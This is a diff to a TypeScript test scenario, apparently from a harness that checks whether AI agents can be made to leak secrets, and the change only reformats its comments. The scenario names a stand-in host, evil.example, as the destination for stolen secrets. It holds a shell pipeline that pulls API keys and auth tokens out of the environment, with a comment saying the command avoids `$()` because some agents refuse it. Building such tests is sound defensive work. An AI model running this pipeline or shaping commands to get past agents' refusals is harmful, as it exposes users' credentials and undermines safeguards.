@@ -1,7 +1,10 @@
-/** Looks for secrets and sends what it finds to somebody else: `[[leak evil.example]]`. Ends with all that it saw, so that a test can look for keys in it. */
+/**
+ * Looks for secrets and sends them to another host: `[[leak evil.example]]`. Ends with everything it saw, so
+ * that a test can look for keys in it.
+ */
 import { inTurn, running, type Scenario } from './scenario.ts'
 
-/** Without `$()`, which some agents do not let through. */
+/** Without `$()`, which some agents refuse. */
 const WITH_KEY = `env | grep -E '(API_KEY|AUTH_TOKEN)=' | cut -d= -f2- | head -n 1 | xargs -I KEY`
 
 export const leak: Scenario = (talk) => {
